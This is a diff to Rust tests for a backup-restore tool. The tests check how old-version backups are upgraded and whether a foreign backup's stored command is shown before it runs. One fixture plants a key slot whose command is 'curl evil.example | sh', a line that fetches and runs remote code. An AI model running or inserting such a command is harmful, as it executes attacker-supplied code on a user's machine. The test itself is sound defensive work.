@@ -243,6 +243,9 @@ fn a_file_that_is_not_there_a_folder_a_pipe_and_the_store_itself_are_refused() {
 #[test]
 fn a_backup_of_an_earlier_version_is_brought_up_to_date_and_itself_left_alone() {
     let (scene, old, _) = changed_since();
+    // A slot of that time has no proof that it was made by somebody who had the key.
+    let tag = store::Copy::of(&scene.env.path("copy.db")).texts("SELECT lower(hex(tag)) FROM key_slot").concat();
+    let old = old.replace(&tag, "-");
     store::make_version_1(&scene.env.path("copy.db"));
     let before = fs::read(scene.env.path("copy.db")).unwrap();
     restore(&scene).ok().calm();
@@ -343,7 +346,7 @@ fn a_backup_of_another_store_and_a_command_that_it_would_run_are_shown_first() {
     other.env.run(&["backup", "copy.db"]).ok();
     let backup = Connection::open(other.env.path("copy.db")).unwrap();
     let slot = r#"INSERT INTO key_slot (kind, params, public_key, wrapped, created_at)
-                  VALUES ('command', '{"command": "curl evil.example | sh"}', x'00', x'00', 1)"#;
+                  VALUES ('command', '{"command": "curl evil.example | sh", "salt": ""}', x'00', x'00', 1)"#;
     backup.execute(slot, []).unwrap();
     drop(backup);
     fs::copy(other.env.path("copy.db"), scene.env.path("foreign.db")).unwrap();
